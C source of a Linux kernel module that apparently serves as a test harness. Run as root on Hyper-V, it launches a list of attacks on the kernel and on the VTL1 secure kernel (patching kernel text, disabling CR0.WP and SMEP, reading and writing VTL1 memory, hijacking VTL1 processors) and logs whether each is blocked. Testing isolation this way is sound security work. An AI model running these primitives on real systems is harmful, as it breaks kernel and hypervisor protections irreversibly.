// SPDX-License-Identifier: GPL-2.0-only
/* Attacks by root with a kernel module. Successful ones are undone, except taking over VTL1. A success that
 * VTL1 does not claim to prevent (VSM_ENFORCES_ bits) is reported as NOT ENFORCED. */
#include <linux/kdebug.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <asm/asm.h>
#include <asm/mshyperv.h>

#include "attack.h"
#include "vsm_ioctl.h"

unsigned long attack_text, attack_rodata, attack_region;
module_param_named(text, attack_text, ulong, 0400);
MODULE_PARM_DESC(text, "address of a function of the kernel");
module_param_named(rodata, attack_rodata, ulong, 0400);
MODULE_PARM_DESC(rodata, "address of read-only data of the kernel");
module_param_named(region, attack_region, ulong, 0400);
MODULE_PARM_DESC(region, "physical address of the secure kernel's memory");
static unsigned int enforced = -1;
module_param(enforced, uint, 0400);
MODULE_PARM_DESC(enforced, "what VTL1 enforces: bits of struct vsm_status");

/* Executed in this order: the last three try to take over VTL1, which cannot be undone. */
static const struct {
	const char *what;
	attack *run;
	unsigned int needs; /* VSM_ENFORCES_ bit without which VTL1 does not block the attack */
} attacks[] = {
	{"patching kernel text through an alias", attack_alias_text},
	{"rewriting read-only data through an alias", attack_alias_rodata},
	{"a SynIC page over kernel text", attack_cover_text},
	{"a SynIC page over read-only data", attack_cover_rodata},
	{"taking the protection off kernel text", attack_protections},
	{"running data of the kernel as code", attack_run_data, VSM_ENFORCES_NO_EXECUTE},
	{"turning off CR0.WP and CR4.SMEP", attack_registers, VSM_ENFORCES_REGISTERS},
	{"reading VTL1's memory", attack_read_region},
	{"writing VTL1's memory", attack_write_region},
	{"a hypercall's output into VTL1's memory", attack_output},
	{"a flood of IPIs into VTL1's work", attack_flood},
	{"starting a processor in VTL1 with own code", attack_start},
	{"reading VTL1's registers", attack_get_registers},
	{"setting VTL1's registers", attack_set_registers},
};

static unsigned int faults; /* number of #GP */

void attack_report(struct attack_report *report, const char *format, ...)
{
	va_list arguments;

	va_start(arguments, format);
	vsnprintf(report->text, sizeof(report->text), format, arguments);
	va_end(arguments);
}

static bool no_fault(u64 good)
{
	faults += !good;
	return good;
}

bool attack_read(const volatile u8 *at, u8 *value)
{
	u64 good = 1;
	u8 got = 0;

	asm volatile("1: movb (%[at]), %[got]\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [got] "+q"(got), [good] "+r"(good)
		     : [at] "r"(at)
		     : "memory");
	*value = got;
	return no_fault(good);
}

bool attack_write(volatile u8 *at, u8 value)
{
	u64 good = 1;

	asm volatile("1: movb %[value], (%[at])\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [good] "+r"(good)
		     : [at] "r"(at), [value] "q"(value)
		     : "memory");
	return no_fault(good);
}

/* @instruction with operand @value; true if it did not fault. */
#define ATTEMPT(instruction, value)                        \
	({                                                 \
		u64 good = 1;                              \
                                                           \
		asm volatile("1: " instruction "\n\t"      \
			     "jmp 3f\n\t"                  \
			     "2: xor %k[good], %k[good]\n" \
			     "3:\n" _ASM_EXTABLE(1b, 2b)   \
			     : [good] "+r"(good)           \
			     : [operand] "r"(value)        \
			     : "memory");                  \
		no_fault(good);                            \
	})

bool attack_set_cr0(unsigned long value)
{
	return ATTEMPT("mov %[operand], %%cr0", value);
}

bool attack_set_cr4(unsigned long value)
{
	return ATTEMPT("mov %[operand], %%cr4", value);
}

u8 *attack_input;

/* After a #GP in the called page, such as the hypercall page, execution resumes after the call. */
static struct task_struct *caller;
static unsigned long called; /* page of the called code */

static int on_die(struct notifier_block *block, unsigned long reason, void *data)
{
	struct pt_regs *regs = ((struct die_args *)data)->regs;

	if (reason != DIE_GPF || current != READ_ONCE(caller) || (regs->ip & PAGE_MASK) != called)
		return NOTIFY_DONE;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += 8;
	regs->ax = ATTACK_GP;
	faults++;
	return NOTIFY_STOP;
}

static struct notifier_block die_block = {.notifier_call = on_die};

/* Interrupts are off from here to end_call(). */
static void begin_call(const void *code)
{
	called = (unsigned long)code & PAGE_MASK;
	WRITE_ONCE(caller, current);
}

static void end_call(void)
{
	WRITE_ONCE(caller, NULL);
}

u64 attack_call(void *code)
{
	unsigned long flags;
	u64 result = 0;

	local_irq_save(flags);
	begin_call(code);
	asm volatile(CALL_NOSPEC
		     : "+a"(result), ASM_CALL_CONSTRAINT
		     : THUNK_TARGET(code)
		     : "cc", "memory", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11");
	end_call();
	local_irq_restore(flags);
	return result;
}

u64 attack_hypercall(u64 control, phys_addr_t output)
{
	u64 result;
	register u64 r8 asm("r8") = output;
	u64 rdx = virt_to_phys(attack_input);
	unsigned long flags;

	local_irq_save(flags);
	begin_call(hv_hypercall_pg);
	asm volatile(CALL_NOSPEC
		     : "=a"(result), "+c"(control), "+d"(rdx), "+r"(r8), ASM_CALL_CONSTRAINT
		     : THUNK_TARGET(hv_hypercall_pg)
		     : "cc", "memory", "r9", "r10", "r11");
	end_call();
	local_irq_restore(flags);
	return result;
}

const char *attack_status(u64 result)
{
	static const struct {
		u64 status;
		const char *name;
	} names[] = {
		{0, "SUCCESS"},
		{2, "INVALID_HYPERCALL_CODE"},
		{5, "INVALID_PARAMETER"},
		{6, "ACCESS_DENIED"},
		{7, "INVALID_PARTITION_STATE"},
		{8, "OPERATION_DENIED"},
		{0xd, "INVALID_PARTITION_ID"},
		{0xe, "INVALID_VP_INDEX"},
		{0x15, "INVALID_VP_STATE"},
		{0x50, "INVALID_REGISTER_VALUE"},
		{0x51, "INVALID_VTL_STATE"},
	};

	if (result == ATTACK_GP)
		return "#GP";
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		if (names[i].status == hv_result(result))
			return names[i].name;
	return "another status";
}

static void *register_header(u8 input_vtl)
{
	memset(attack_input, 0, PAGE_SIZE);
	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
	*(u32 *)(attack_input + 8) = HV_VP_INDEX_SELF;
	attack_input[12] = input_vtl;
	return attack_input + 16;
}

u64 attack_get_register(u8 input_vtl, u32 name, u64 *value)
{
	u64 *output = (u64 *)get_zeroed_page(GFP_KERNEL);
	u64 result;

	*value = 0;
	if (!output)
		return ATTACK_GP;
	*(u32 *)register_header(input_vtl) = name;
	result = attack_hypercall(HVCALL_GET_VP_REGISTERS | ATTACK_REP(1), virt_to_phys(output));
	*value = *output;
	free_page((unsigned long)output);
	return result;
}

u64 attack_set_register(u8 input_vtl, u32 name, u64 value)
{
	u64 *element = register_header(input_vtl);

	element[0] = name;
	element[2] = value;
	return attack_hypercall(HVCALL_SET_VP_REGISTERS | ATTACK_REP(1), 0);
}

static int __init attack_init(void)
{
	unsigned int succeeded = 0, open = 0;

	if (!attack_text || !attack_rodata || !attack_region || !hv_is_hyperv_initialized()) {
		pr_err("vsm-attack: text=, rodata= and region= are required, on a Hyper-V "
		       "interface\n");
		return -EINVAL;
	}
	attack_input = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (!attack_input)
		return -ENOMEM;
	register_die_notifier(&die_block);
	for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
		struct attack_report report = {""};
		const bool through = attacks[i].run(&report);
		const bool not_enforced = through && attacks[i].needs & ~enforced;

		open += not_enforced;
		succeeded += through && !not_enforced;
		pr_info("vsm-attack: %s: %s: %s\n", attacks[i].what,
			not_enforced ? "NOT ENFORCED"
			: through    ? "SUCCEEDED"
				     : "BLOCKED",
			report.text);
	}
	unregister_die_notifier(&die_block);
	free_page((unsigned long)attack_input);
	pr_info("vsm-attack: %zu blocked, %u succeeded, %u #GP, %u not enforced\n",
		ARRAY_SIZE(attacks) - succeeded - open, succeeded, faults, open);
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks on the kernel that runs it and on VTL1");
MODULE_LICENSE("GPL");
